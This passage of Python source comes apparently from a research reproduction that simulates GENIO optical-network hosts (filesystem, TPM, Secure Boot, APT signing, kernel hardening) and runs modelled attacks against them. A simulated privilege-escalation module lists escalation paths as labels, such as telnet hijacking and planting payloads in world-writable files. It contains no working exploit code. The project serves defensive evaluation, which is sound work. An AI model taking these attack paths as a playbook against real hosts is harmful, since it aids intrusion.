            rungs.append("hijack plaintext telnet session")

        world_writable = [n.path for n in host.fs.glob_world_writable()
                          if not n.path.startswith("/tmp")]
        if world_writable:
            rungs.append(f"plant payload in world-writable {world_writable[0]}")

        return rungs

    def run(self) -> AttackResult:
        rungs = self._available_rungs()
        self.host.syscall(self.foothold_user, "execve", path="/usr/bin/id")
        if rungs:
            self.host.login("root", method="escalation", success=True)
            return AttackResult(
                "privilege-escalation", True,
                f"{len(rungs)} escalation paths available",
                evidence=rungs)
        self.host.login("root", method="escalation", success=False)
        return AttackResult(
            "privilege-escalation", False,
            "no escalation path: hardened configuration closed every rung")

"""Attacker implementations for threats T2-T8.

T1's network attacks live in :mod:`repro.pon.attacks` next to the plant
they target. Everything here follows the same contract: each attack
exposes ``run()`` returning a :class:`repro.pon.attacks.AttackResult`,
so the E4 attack/defense matrix can execute every threat with mitigations
off and on and tabulate uniformly.
"""

from repro.pon.attacks import AttackResult
from repro.attacks.tampering import BootKitAttack, BinaryImplantAttack, MaliciousUpdateAttack
from repro.attacks.privilege import PrivilegeEscalationAttack
from repro.attacks.exploits import KernelExploitAttack, HypervisorEscapeAttack
from repro.attacks.middleware import (
    AnonymousApiAttack, DefaultCredentialAttack, MiddlewareCveExploit,
    TokenAbuseAttack, patch_controller,
)
from repro.attacks.apps import (
    CapabilityAbuseAttack, MaliciousImageAttack, ResourceAbuseAttack,
    VulnerableAppExploit,
)

__all__ = [
    "AttackResult",
    "BootKitAttack",
    "BinaryImplantAttack",
    "MaliciousUpdateAttack",
    "PrivilegeEscalationAttack",
    "KernelExploitAttack",
    "HypervisorEscapeAttack",
    "AnonymousApiAttack",
    "DefaultCredentialAttack",
    "MiddlewareCveExploit",
    "TokenAbuseAttack",
    "patch_controller",
    "CapabilityAbuseAttack",
    "MaliciousImageAttack",
    "ResourceAbuseAttack",
    "VulnerableAppExploit",
]

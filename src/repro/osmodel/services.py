"""System services and their network exposure.

The SCAP/STIG engines check service configuration (SSH options, NTP
enablement); the Nmap-like port audit (M15) enumerates the listening
ports recorded here; the attack modules abuse over-privileged services.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional


@dataclass
class Service:
    """One system service/daemon."""

    name: str
    running: bool = True
    enabled: bool = True
    port: Optional[int] = None      # listening TCP port, if any
    tls: bool = False               # whether the listener speaks TLS
    runs_as: str = "root"
    config: Dict[str, str] = field(default_factory=dict)
    essential: bool = False         # needed by the platform; can't be stripped

    def stop(self) -> None:
        self.running = False

    def disable(self) -> None:
        self.enabled = False
        self.running = False

    def set_option(self, key: str, value: str) -> None:
        self.config[key] = value


class ServiceRegistry:
    """All services configured on one host."""

    def __init__(self) -> None:
        self._services: Dict[str, Service] = {}

    def add(self, service: Service) -> Service:
        self._services[service.name] = service
        return service

    def get(self, name: str) -> Optional[Service]:
        return self._services.get(name)

    def remove(self, name: str) -> None:
        self._services.pop(name, None)

    def all(self) -> List[Service]:
        return sorted(self._services.values(), key=lambda s: s.name)

    def running(self) -> List[Service]:
        return [s for s in self.all() if s.running]

    def listening_ports(self) -> Dict[int, Service]:
        """port -> service for every running listener."""
        return {s.port: s for s in self.running() if s.port is not None}

    def __contains__(self, name: str) -> bool:
        return name in self._services

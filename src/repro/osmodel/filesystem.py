"""In-memory file tree with POSIX-ish metadata.

Files carry content, mode, owner and an ``immutable`` flag (the chattr +i
analogue). The Tripwire-like FIM baselines file hashes; the SCAP/STIG
engines check modes and ownership; T2 code-tampering attacks rewrite
binaries here.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, List, Optional, Tuple

from repro.common import crypto
from repro.common.errors import AuthorizationError, NotFoundError


@dataclass
class FileNode:
    """One file: content plus the metadata security tools care about."""

    path: str
    content: bytes = b""
    mode: int = 0o644
    owner: str = "root"
    group: str = "root"
    immutable: bool = False

    def sha256(self) -> str:
        return crypto.sha256_hex(self.content)

    @property
    def world_writable(self) -> bool:
        return bool(self.mode & 0o002)

    @property
    def setuid(self) -> bool:
        return bool(self.mode & 0o4000)


# Callback fired on every mutation: (operation, path, actor)
FsObserver = Callable[[str, str, str], None]


class FileSystem:
    """A flat path-keyed file store (directories are implicit prefixes)."""

    def __init__(self) -> None:
        self._files: Dict[str, FileNode] = {}
        self._observers: List[FsObserver] = []

    # -- observation ---------------------------------------------------------

    def observe(self, observer: FsObserver) -> None:
        """Register a mutation observer (used by FIM and runtime monitors)."""
        self._observers.append(observer)

    def _notify(self, op: str, path: str, actor: str) -> None:
        for observer in list(self._observers):
            observer(op, path, actor)

    # -- operations ------------------------------------------------------------

    def write(self, path: str, content: bytes, mode: int = 0o644,
              owner: str = "root", group: str = "root", actor: str = "root") -> FileNode:
        """Create or overwrite a file.

        :raises AuthorizationError: the file is marked immutable.
        """
        path = _normalize(path)
        existing = self._files.get(path)
        if existing is not None and existing.immutable:
            raise AuthorizationError(f"{path} is immutable")
        if existing is not None:
            existing.content = content
            node = existing
        else:
            node = FileNode(path=path, content=content, mode=mode,
                            owner=owner, group=group)
            self._files[path] = node
        self._notify("write", path, actor)
        return node

    def read(self, path: str) -> bytes:
        return self.node(path).content

    def node(self, path: str) -> FileNode:
        path = _normalize(path)
        node = self._files.get(path)
        if node is None:
            raise NotFoundError(f"no such file: {path}")
        return node

    def exists(self, path: str) -> bool:
        return _normalize(path) in self._files

    def delete(self, path: str, actor: str = "root") -> None:
        path = _normalize(path)
        node = self._files.get(path)
        if node is None:
            raise NotFoundError(f"no such file: {path}")
        if node.immutable:
            raise AuthorizationError(f"{path} is immutable")
        del self._files[path]
        self._notify("delete", path, actor)

    def chmod(self, path: str, mode: int, actor: str = "root") -> None:
        self.node(path).mode = mode
        self._notify("chmod", _normalize(path), actor)

    def chown(self, path: str, owner: str, group: Optional[str] = None,
              actor: str = "root") -> None:
        node = self.node(path)
        node.owner = owner
        if group is not None:
            node.group = group
        self._notify("chown", _normalize(path), actor)

    def set_immutable(self, path: str, immutable: bool = True) -> None:
        self.node(path).immutable = immutable

    # -- queries ------------------------------------------------------------------

    def walk(self, prefix: str = "/") -> Iterator[FileNode]:
        """Iterate files under ``prefix`` in sorted path order."""
        prefix = _normalize(prefix)
        for path in sorted(self._files):
            if path == prefix or path.startswith(prefix.rstrip("/") + "/"):
                yield self._files[path]

    def glob_setuid(self) -> List[FileNode]:
        return [n for n in self._files.values() if n.setuid]

    def glob_world_writable(self) -> List[FileNode]:
        return [n for n in self._files.values() if n.world_writable]

    def snapshot_hashes(self, prefix: str = "/") -> Dict[str, str]:
        """path -> sha256 map, the raw material of FIM baselines."""
        return {n.path: n.sha256() for n in self.walk(prefix)}

    def __len__(self) -> int:
        return len(self._files)


def _normalize(path: str) -> str:
    if not path.startswith("/"):
        raise ValueError(f"paths must be absolute, got {path!r}")
    while "//" in path:
        path = path.replace("//", "/")
    return path

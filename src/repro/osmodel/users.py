"""User accounts and local privilege state.

The T3 privilege-abuse threat exploits unrestricted accounts (passwordless
sudo, shared root logins, dormant accounts); the M1 hardening pass locks
these down, and the SCAP engine audits them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set


@dataclass
class User:
    """One local account."""

    name: str
    uid: int
    groups: Set[str] = field(default_factory=set)
    password_set: bool = True
    password_locked: bool = False
    sudo: bool = False
    sudo_nopasswd: bool = False
    shell: str = "/bin/bash"
    ssh_authorized_keys: List[str] = field(default_factory=list)

    @property
    def is_root_equivalent(self) -> bool:
        return self.uid == 0 or self.sudo

    @property
    def login_disabled(self) -> bool:
        return self.password_locked or self.shell in ("/usr/sbin/nologin", "/bin/false")


class UserDatabase:
    """All accounts on one host."""

    def __init__(self) -> None:
        self._users: Dict[str, User] = {}

    def add(self, user: User) -> User:
        if user.name in self._users:
            raise ValueError(f"user {user.name} already exists")
        self._users[user.name] = user
        return user

    def get(self, name: str) -> Optional[User]:
        return self._users.get(name)

    def remove(self, name: str) -> None:
        self._users.pop(name, None)

    def all(self) -> List[User]:
        return sorted(self._users.values(), key=lambda u: u.uid)

    def root_equivalents(self) -> List[User]:
        return [u for u in self.all() if u.is_root_equivalent]

    def passwordless_sudoers(self) -> List[User]:
        return [u for u in self.all() if u.sudo and u.sudo_nopasswd]

    def uid_zero_accounts(self) -> List[User]:
        return [u for u in self.all() if u.uid == 0]

    def __contains__(self, name: str) -> bool:
        return name in self._users

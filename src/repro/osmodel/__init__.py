"""Simulated Linux host substrate.

The paper's infrastructure-level mitigations (M1/M2 hardening, M5-M7
integrity, M8 scanning, M9 signed updates) all read and modify host state:
kernel configuration, sysctl, installed packages, services, user accounts,
files, the boot chain and the TPM. This package models exactly that state,
declaratively, so the OpenSCAP/STIG/kernel-hardening-checker/Tripwire/
Vuls-like engines in :mod:`repro.security` operate on a faithful substrate.

Hosts are ONL (Open Networking Linux, Debian 10 based) on OLTs — the
paper's Lesson 3 friction point — plus mainstream Debian in the cloud.
"""

from repro.osmodel.filesystem import FileNode, FileSystem
from repro.osmodel.kernel import KernelConfig
from repro.osmodel.packages import AptRepository, Package, PackageDatabase, compare_versions
from repro.osmodel.services import Service
from repro.osmodel.users import User, UserDatabase
from repro.osmodel.tpm import Tpm
from repro.osmodel.boot import BootChain, BootComponent, FirmwareRom
from repro.osmodel.storage import LuksVolume
from repro.osmodel.host import Host, DistroInfo

__all__ = [
    "FileNode",
    "FileSystem",
    "KernelConfig",
    "AptRepository",
    "Package",
    "PackageDatabase",
    "compare_versions",
    "Service",
    "User",
    "UserDatabase",
    "Tpm",
    "BootChain",
    "BootComponent",
    "FirmwareRom",
    "LuksVolume",
    "Host",
    "DistroInfo",
]

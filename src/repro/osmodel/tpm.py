"""Software TPM: PCR banks, measurement, sealing.

Models the Trusted Platform Module GENIO uses for Measured Boot (M5),
PCR-bound disk decryption (M6, the Clevis pattern) and protecting the
Tripwire keys (M7). Semantics match a real TPM where the experiments need
them to:

* ``extend`` is one-way: PCR' = SHA-256(PCR || measurement);
* sealed secrets are released only when the selected PCRs hold exactly the
  values captured at seal time;
* PCRs reset only on (simulated) platform reset.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.common import crypto
from repro.common.errors import AuthorizationError, NotFoundError

_PCR_COUNT = 24
_INITIAL = b"\x00" * 32


@dataclass
class SealedBlob:
    """A secret sealed to a PCR policy."""

    name: str
    ciphertext: bytes
    pcr_selection: Tuple[int, ...]
    policy_digest: bytes


class Tpm:
    """One host's TPM."""

    def __init__(self, serial: str = "tpm-0") -> None:
        self.serial = serial
        self._pcrs: List[bytes] = [_INITIAL] * _PCR_COUNT
        self._storage_root_key = crypto.hmac_sha256(b"srk", serial.encode())
        self._sealed: Dict[str, SealedBlob] = {}
        self.event_log: List[Tuple[int, str, str]] = []  # (pcr, description, digest)

    # -- PCRs -----------------------------------------------------------------

    def read_pcr(self, index: int) -> bytes:
        self._check_index(index)
        return self._pcrs[index]

    def extend(self, index: int, measurement: bytes, description: str = "") -> bytes:
        """Extend a PCR with a measurement; returns the new value."""
        self._check_index(index)
        new_value = crypto.sha256(self._pcrs[index] + measurement)
        self._pcrs[index] = new_value
        self.event_log.append((index, description, crypto.sha256_hex(measurement)))
        return new_value

    def reset(self) -> None:
        """Platform reset: PCRs return to their initial state."""
        self._pcrs = [_INITIAL] * _PCR_COUNT
        self.event_log.clear()

    def quote(self, selection: Sequence[int]) -> bytes:
        """Digest over selected PCRs (the attestation 'quote' payload)."""
        material = b"".join(self.read_pcr(i) for i in sorted(set(selection)))
        return crypto.sha256(material)

    # -- sealing ----------------------------------------------------------------

    def seal(self, name: str, secret: bytes, pcr_selection: Sequence[int]) -> SealedBlob:
        """Seal ``secret`` so it only unseals under the current PCR values."""
        selection = tuple(sorted(set(pcr_selection)))
        policy = self.quote(selection)
        key = crypto.hmac_sha256(self._storage_root_key, policy)
        blob = SealedBlob(
            name=name,
            ciphertext=crypto.aead_encrypt(key, secret, associated_data=name.encode()),
            pcr_selection=selection,
            policy_digest=policy,
        )
        self._sealed[name] = blob
        return blob

    def unseal(self, name: str) -> bytes:
        """Release a sealed secret iff the PCR policy is currently satisfied.

        :raises AuthorizationError: PCR state differs from seal time (the
            platform booted something other than the measured-good chain).
        """
        blob = self._sealed.get(name)
        if blob is None:
            raise NotFoundError(f"no sealed blob named {name!r}")
        current = self.quote(blob.pcr_selection)
        if not crypto.constant_time_equals(current, blob.policy_digest):
            raise AuthorizationError(
                f"PCR policy for {name!r} not satisfied: platform state changed"
            )
        key = crypto.hmac_sha256(self._storage_root_key, current)
        return crypto.aead_decrypt(key, blob.ciphertext,
                                   associated_data=name.encode())

    def sealed_names(self) -> List[str]:
        return sorted(self._sealed)

    @staticmethod
    def _check_index(index: int) -> None:
        if not 0 <= index < _PCR_COUNT:
            raise ValueError(f"PCR index {index} out of range 0..{_PCR_COUNT - 1}")

"""The host aggregate: one OLT/cloud node's full software state.

A :class:`Host` glues together the kernel model, filesystem, package
database, services, users, TPM, boot chain and encrypted volumes, and
emits the event streams (``host.syscall``, ``host.file``, ``host.login``)
that runtime security components consume.

The paper's Lesson 3 constraint is first-class: ONL hosts report an old
Debian base release, and :meth:`Host.apt_install` refuses packages whose
``min_distro_release`` exceeds it unless forced — forcing records a
dependency-conflict risk, exactly the trade-off the paper describes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.clock import SimClock
from repro.common.errors import ConfigurationError, IntegrityError, NotFoundError
from repro.common.events import EventBus
from repro.common import crypto
from repro.osmodel.boot import BootChain, FirmwareRom
from repro.osmodel.filesystem import FileSystem
from repro.osmodel.kernel import KernelConfig, stock_onl_kernel
from repro.osmodel.packages import AptRepository, Package, PackageDatabase
from repro.osmodel.services import Service, ServiceRegistry
from repro.osmodel.storage import LuksVolume
from repro.osmodel.tpm import Tpm
from repro.osmodel.users import User, UserDatabase


@dataclass(frozen=True)
class DistroInfo:
    """Operating-system distribution identity."""

    name: str
    version: str
    debian_release: int  # ONL is Debian 10; current Debian would be 12+

    @property
    def is_legacy(self) -> bool:
        return self.debian_release < 12


ONL_DISTRO = DistroInfo(name="Open Networking Linux", version="ONL-2.x (Debian 10)",
                        debian_release=10)
CLOUD_DISTRO = DistroInfo(name="Debian", version="12 (bookworm)", debian_release=12)


@dataclass
class InstallRecord:
    """Audit entry for one package installation attempt."""

    package: str
    version: str
    repo: str
    verified: bool
    forced: bool
    conflict_risk: bool


class Host:
    """A single machine in the GENIO deployment."""

    def __init__(
        self,
        hostname: str,
        distro: DistroInfo = ONL_DISTRO,
        kernel: Optional[KernelConfig] = None,
        clock: Optional[SimClock] = None,
        bus: Optional[EventBus] = None,
        with_tpm: bool = True,
    ) -> None:
        self.hostname = hostname
        self.distro = distro
        self.kernel = kernel or stock_onl_kernel()
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self.fs = FileSystem()
        self.packages = PackageDatabase()
        self.services = ServiceRegistry()
        self.users = UserDatabase()
        self.tpm: Optional[Tpm] = Tpm(f"tpm-{hostname}") if with_tpm else None
        self.firmware = FirmwareRom(secure_boot=False)
        self.boot_chain = BootChain(self.firmware, tpm=self.tpm)
        self.volumes: Dict[str, LuksVolume] = {}
        self.trusted_apt_keys: List[crypto.RsaPublicKey] = []
        self.apt_verify_signatures = False
        self.install_log: List[InstallRecord] = []
        self.fs.observe(self._on_file_event)

    # -- event plumbing -----------------------------------------------------------

    def _on_file_event(self, op: str, path: str, actor: str) -> None:
        self.bus.emit("host.file", self.hostname, self.clock.now,
                      op=op, path=path, actor=actor)

    def syscall(self, process: str, name: str, **args: object) -> None:
        """Record a syscall from a workload (feeds the Falco-like monitor)."""
        self.bus.emit("host.syscall", self.hostname, self.clock.now,
                      process=process, syscall=name, **args)

    def login(self, user: str, method: str = "ssh", success: bool = True) -> None:
        self.bus.emit("host.login", self.hostname, self.clock.now,
                      user=user, method=method, success=success)

    # -- package management (M9 enforcement point) ------------------------------------

    def trust_apt_key(self, key: crypto.RsaPublicKey) -> None:
        self.trusted_apt_keys.append(key)

    def require_signed_apt(self, required: bool = True) -> None:
        self.apt_verify_signatures = required

    def apt_install(self, repo: AptRepository, package_name: str,
                    force: bool = False) -> Package:
        """Install a package from a repository, enforcing M9 and Lesson 3.

        :raises IntegrityError: signature policy is on and the repository
            metadata is unsigned or signed by an untrusted key.
        :raises ConfigurationError: the package needs a newer distro base
            than this host has, and ``force`` was not given.
        """
        verified = False
        if self.apt_verify_signatures:
            AptRepository.verify_metadata(repo.metadata(), self.trusted_apt_keys)
            verified = True

        package = repo.find(package_name)
        if package is None:
            raise NotFoundError(f"{package_name} not found in repo {repo.name}")

        conflict_risk = False
        if package.min_distro_release > self.distro.debian_release:
            if not force:
                raise ConfigurationError(
                    f"{package.key} needs Debian release "
                    f">={package.min_distro_release}, host has "
                    f"{self.distro.debian_release} (Lesson 3: manual install required)"
                )
            conflict_risk = True  # manually forced onto an old base

        missing = [dep for dep in package.depends if dep not in self.packages]
        if missing and not force:
            raise ConfigurationError(
                f"{package.key} has unmet dependencies: {', '.join(missing)}"
            )
        if missing:
            conflict_risk = True

        self.packages.install(package)
        self.install_log.append(InstallRecord(
            package=package.name, version=package.version, repo=repo.name,
            verified=verified, forced=force, conflict_risk=conflict_risk,
        ))
        return package

    # -- storage ---------------------------------------------------------------------

    def add_volume(self, volume: LuksVolume) -> None:
        self.volumes[volume.name] = volume

    # -- boot ------------------------------------------------------------------------

    def boot(self):
        """Boot the host through its chain; returns the BootOutcome."""
        outcome = self.boot_chain.boot()
        self.bus.emit("host.boot", self.hostname, self.clock.now,
                      booted=outcome.booted, failure=outcome.failure)
        return outcome

    def __repr__(self) -> str:
        return (f"Host({self.hostname!r}, distro={self.distro.name!r}, "
                f"pkgs={len(self.packages)})")

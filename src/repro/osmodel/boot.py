"""Boot chain: firmware ROM -> Shim -> GRUB -> kernel, with Secure Boot
signature verification and Measured Boot PCR extension (M5).

The chain mirrors the paper's description: the Shim bootloader is signed
by a recognized CA (Microsoft in reality); Shim then carries the
operator's own keys (GENIO's MOK-like keys) used to validate GRUB and the
distribution kernel. Each stage is also *measured* into TPM PCRs before
execution, so even a boot that slips past verification leaves evidence.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common import crypto
from repro.common.errors import IntegrityError
from repro.osmodel.tpm import Tpm

# Conventional PCR allocation (matches TCG usage closely enough).
PCR_FIRMWARE = 0
PCR_BOOTLOADER = 4
PCR_KERNEL = 8


class BootStage(enum.Enum):
    SHIM = "shim"
    GRUB = "grub"
    KERNEL = "kernel"

_STAGE_ORDER = [BootStage.SHIM, BootStage.GRUB, BootStage.KERNEL]
_STAGE_PCR = {BootStage.SHIM: PCR_BOOTLOADER, BootStage.GRUB: PCR_BOOTLOADER,
              BootStage.KERNEL: PCR_KERNEL}


@dataclass
class BootComponent:
    """One stage image plus its signature."""

    stage: BootStage
    image: bytes
    signature: bytes = b""
    signer_fingerprint: str = ""

    def measurement(self) -> bytes:
        return crypto.sha256(self.image)


@dataclass
class BootOutcome:
    """Result of one boot attempt."""

    booted: bool
    verified_stages: List[str] = field(default_factory=list)
    failure: Optional[str] = None


class FirmwareRom:
    """Platform firmware: owns the Secure Boot key databases.

    ``db`` holds CA keys trusted to sign Shim (the 'Microsoft' CA);
    ``mok`` holds the operator's machine-owner keys Shim uses for GRUB and
    kernels; ``dbx`` is the revocation list.
    """

    def __init__(self, secure_boot: bool = True) -> None:
        self.secure_boot = secure_boot
        self.db: List[crypto.RsaPublicKey] = []
        self.mok: List[crypto.RsaPublicKey] = []
        self.dbx: List[str] = []  # revoked image hashes (hex)
        self.firmware_image = b"genio-uefi-firmware-2.4"

    def enroll_ca(self, key: crypto.RsaPublicKey) -> None:
        self.db.append(key)

    def enroll_mok(self, key: crypto.RsaPublicKey) -> None:
        self.mok.append(key)

    def revoke_image(self, image: bytes) -> None:
        self.dbx.append(crypto.sha256_hex(image))

    def _verify(self, component: BootComponent,
                keyring: List[crypto.RsaPublicKey]) -> bool:
        if crypto.sha256_hex(component.image) in self.dbx:
            return False
        return any(key.verify(component.image, component.signature)
                   for key in keyring)

    def verify_component(self, component: BootComponent) -> bool:
        """Shim is checked against db; later stages against db + MOK."""
        if component.stage is BootStage.SHIM:
            return self._verify(component, self.db)
        return self._verify(component, self.db + self.mok)


class BootChain:
    """Executes (simulated) boots of a host's component stack."""

    def __init__(self, rom: FirmwareRom, tpm: Optional[Tpm] = None) -> None:
        self.rom = rom
        self.tpm = tpm
        self.components: Dict[BootStage, BootComponent] = {}
        self.last_outcome: Optional[BootOutcome] = None

    def install(self, component: BootComponent) -> None:
        self.components[component.stage] = component

    def boot(self) -> BootOutcome:
        """Run one boot: reset + measure + (if enabled) verify each stage.

        Measurement happens for every stage *reached*, even when Secure
        Boot is disabled — Measured Boot and Secure Boot are independent,
        as in real platforms.
        """
        if self.tpm is not None:
            self.tpm.reset()
            self.tpm.extend(PCR_FIRMWARE, crypto.sha256(self.rom.firmware_image),
                            description="platform firmware")
        verified: List[str] = []
        for stage in _STAGE_ORDER:
            component = self.components.get(stage)
            if component is None:
                outcome = BootOutcome(False, verified, f"missing {stage.value} image")
                self.last_outcome = outcome
                return outcome
            if self.tpm is not None:
                self.tpm.extend(_STAGE_PCR[stage], component.measurement(),
                                description=stage.value)
            if self.rom.secure_boot and not self.rom.verify_component(component):
                outcome = BootOutcome(
                    False, verified,
                    f"{stage.value} failed Secure Boot verification",
                )
                self.last_outcome = outcome
                return outcome
            verified.append(stage.value)
        outcome = BootOutcome(True, verified)
        self.last_outcome = outcome
        return outcome


def sign_component(stage: BootStage, image: bytes,
                   signer: crypto.RsaKeyPair) -> BootComponent:
    """Produce a signed boot component."""
    return BootComponent(
        stage=stage,
        image=image,
        signature=signer.sign(image),
        signer_fingerprint=signer.public.fingerprint(),
    )

"""Package database and APT-like repositories with signed metadata.

Three concerns from the paper live here:

* the installed-package inventory that the Vuls/Lynis-like scanners (M8)
  match against CVE data;
* APT repositories whose metadata is GPG-signed (M9): hosts configured
  with signature verification reject unsigned or tampered repositories;
* the Debian-10 *package availability* constraint behind Lesson 3 — ONL's
  old base lacks recent packages (Clevis's TPM libraries), so installs of
  too-new dependencies fail unless forced manually, with a conflict risk.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common import crypto
from repro.common.errors import IntegrityError, NotFoundError


def compare_versions(a: str, b: str) -> int:
    """dpkg-style-ish version comparison: -1 if a<b, 0 if equal, 1 if a>b.

    Handles dotted numeric segments with optional alphanumeric suffixes,
    which covers every version string the simulation generates.
    """
    def split(version: str) -> List[Tuple[int, str]]:
        parts = []
        for chunk in version.replace("-", ".").replace("+", ".").split("."):
            digits = ""
            rest = chunk
            while rest and rest[0].isdigit():
                digits += rest[0]
                rest = rest[1:]
            parts.append((int(digits) if digits else 0, rest))
        return parts

    pa, pb = split(a), split(b)
    length = max(len(pa), len(pb))
    pa += [(0, "")] * (length - len(pa))
    pb += [(0, "")] * (length - len(pb))
    for (na, sa), (nb, sb) in zip(pa, pb):
        if na != nb:
            return -1 if na < nb else 1
        if sa != sb:
            return -1 if sa < sb else 1
    return 0


def version_in_range(version: str, introduced: Optional[str], fixed: Optional[str]) -> bool:
    """True if ``version`` falls in [introduced, fixed) — the CVE-affected test."""
    if introduced is not None and compare_versions(version, introduced) < 0:
        return False
    if fixed is not None and compare_versions(version, fixed) >= 0:
        return False
    return True


@dataclass(frozen=True)
class Package:
    """An installable software package."""

    name: str
    version: str
    description: str = ""
    depends: Tuple[str, ...] = ()
    min_distro_release: int = 0  # Debian release needed (Lesson 3 gate)

    @property
    def key(self) -> str:
        return f"{self.name}={self.version}"


class PackageDatabase:
    """Installed packages on one host."""

    def __init__(self) -> None:
        self._installed: Dict[str, Package] = {}

    def install(self, package: Package) -> None:
        self._installed[package.name] = package

    def remove(self, name: str) -> None:
        if name not in self._installed:
            raise NotFoundError(f"package {name} is not installed")
        del self._installed[name]

    def get(self, name: str) -> Optional[Package]:
        return self._installed.get(name)

    def installed(self) -> List[Package]:
        return sorted(self._installed.values(), key=lambda p: p.name)

    def __contains__(self, name: str) -> bool:
        return name in self._installed

    def __len__(self) -> int:
        return len(self._installed)


@dataclass
class RepositoryMetadata:
    """The signed index of an APT-like repository (a Release file)."""

    name: str
    package_index: Dict[str, str]  # name -> version
    signature: bytes = b""

    def canonical_bytes(self) -> bytes:
        entries = ";".join(f"{n}={v}" for n, v in sorted(self.package_index.items()))
        return f"{self.name}|{entries}".encode()


class AptRepository:
    """A package repository whose metadata may be GPG-signed (M9).

    ``signing_keypair`` plays the role of the repository's GPG key; hosts
    hold the corresponding public key in their trusted keyring.
    """

    def __init__(self, name: str,
                 signing_keypair: Optional[crypto.RsaKeyPair] = None) -> None:
        self.name = name
        self._packages: Dict[str, Package] = {}
        self._signing_keypair = signing_keypair

    @property
    def signed(self) -> bool:
        return self._signing_keypair is not None

    @property
    def public_key(self) -> Optional[crypto.RsaPublicKey]:
        return self._signing_keypair.public if self._signing_keypair else None

    def publish(self, package: Package) -> None:
        self._packages[package.name] = package

    def find(self, name: str) -> Optional[Package]:
        return self._packages.get(name)

    def metadata(self) -> RepositoryMetadata:
        """Current signed (or unsigned) repository index."""
        meta = RepositoryMetadata(
            name=self.name,
            package_index={p.name: p.version for p in self._packages.values()},
        )
        if self._signing_keypair is not None:
            meta.signature = self._signing_keypair.sign(meta.canonical_bytes())
        return meta

    @staticmethod
    def verify_metadata(meta: RepositoryMetadata,
                        trusted_keys: List[crypto.RsaPublicKey]) -> None:
        """Verify a repository index against a trusted keyring.

        :raises IntegrityError: unsigned metadata or no trusted key verifies.
        """
        if not meta.signature:
            raise IntegrityError(f"repository {meta.name} metadata is unsigned")
        for key in trusted_keys:
            if key.verify(meta.canonical_bytes(), meta.signature):
                return
        raise IntegrityError(
            f"repository {meta.name} metadata signature does not verify "
            "against any trusted key"
        )

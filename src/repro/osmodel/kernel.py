"""Kernel configuration model: kconfig, cmdline, sysctl, modules, LSM.

This is the surface the M2 mitigation hardens and the
kernel-hardening-checker-like tool (:mod:`repro.security.hardening.kernelcheck`)
audits. GENIO runs a *custom* kernel configuration to support its SDN
stack (the paper's T4 concern), so the model tracks which options the SDN
software requires and refuses hardening changes that would break them —
reproducing Lesson 1's security/compatibility tension.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

from repro.common.errors import ConfigurationError


@dataclass
class KernelConfig:
    """One host's kernel-level security state."""

    version: str = "4.19.0-onl"
    kconfig: Dict[str, str] = field(default_factory=dict)
    cmdline: Dict[str, str] = field(default_factory=dict)
    sysctl: Dict[str, str] = field(default_factory=dict)
    loaded_modules: Set[str] = field(default_factory=set)
    lsm: Optional[str] = None  # "apparmor" | "selinux" | None
    microcode_revision: int = 0
    sdn_required_options: Set[str] = field(default_factory=set)

    # -- kconfig -----------------------------------------------------------------

    def set_kconfig(self, option: str, value: str) -> None:
        """Set a build-time option (simulates a rebuild + reboot).

        :raises ConfigurationError: disabling an option the SDN stack needs.
        """
        if option in self.sdn_required_options and value in ("n", "not set"):
            raise ConfigurationError(
                f"{option} is required by the SDN stack and cannot be disabled"
            )
        self.kconfig[option] = value

    def kconfig_enabled(self, option: str) -> bool:
        return self.kconfig.get(option) == "y"

    # -- runtime knobs -------------------------------------------------------------

    def set_sysctl(self, key: str, value: str) -> None:
        self.sysctl[key] = value

    def set_cmdline(self, key: str, value: str) -> None:
        self.cmdline[key] = value

    def load_module(self, name: str) -> None:
        if self.sysctl.get("kernel.modules_disabled") == "1":
            raise ConfigurationError("module loading is disabled")
        self.loaded_modules.add(name)

    def unload_module(self, name: str) -> None:
        self.loaded_modules.discard(name)

    def enable_lsm(self, lsm: str) -> None:
        if lsm not in ("apparmor", "selinux"):
            raise ConfigurationError(f"unknown LSM {lsm!r}")
        self.lsm = lsm

    def apply_microcode(self, revision: int) -> None:
        """Apply a speculative-execution microcode mitigation package."""
        if revision <= self.microcode_revision:
            raise ConfigurationError(
                f"microcode revision {revision} is not newer than "
                f"{self.microcode_revision}"
            )
        self.microcode_revision = revision

    # -- convenience used by attacks/experiments -------------------------------------

    @property
    def kexec_enabled(self) -> bool:
        return self.kconfig_enabled("CONFIG_KEXEC")

    @property
    def kprobes_enabled(self) -> bool:
        return self.kconfig_enabled("CONFIG_KPROBES")

    @property
    def stack_protector(self) -> bool:
        return self.kconfig_enabled("CONFIG_STACKPROTECTOR")


def stock_onl_kernel() -> KernelConfig:
    """The un-hardened ONL kernel as shipped (Lesson 1's starting point)."""
    kernel = KernelConfig(version="4.19.0-onl")
    kernel.kconfig.update({
        "CONFIG_KEXEC": "y",
        "CONFIG_KPROBES": "y",
        "CONFIG_STACKPROTECTOR": "n",
        "CONFIG_STACKPROTECTOR_STRONG": "n",
        "CONFIG_RANDOMIZE_BASE": "n",
        "CONFIG_STRICT_KERNEL_RWX": "n",
        "CONFIG_DEBUG_FS": "y",
        "CONFIG_MODULE_SIG": "n",
        "CONFIG_BPF_SYSCALL": "y",          # VOLTHA/ONOS datapath needs eBPF
        "CONFIG_NET_SWITCHDEV": "y",        # SDN requirement
        "CONFIG_VLAN_8021Q": "y",           # SDN requirement
        "CONFIG_LEGACY_VSYSCALL_EMULATE": "y",
        "CONFIG_SECURITY": "n",
    })
    kernel.sdn_required_options.update({
        "CONFIG_BPF_SYSCALL", "CONFIG_NET_SWITCHDEV", "CONFIG_VLAN_8021Q",
    })
    kernel.cmdline.update({
        "mitigations": "off",
        "slab_nomerge": "absent",
    })
    kernel.sysctl.update({
        "kernel.kptr_restrict": "0",
        "kernel.dmesg_restrict": "0",
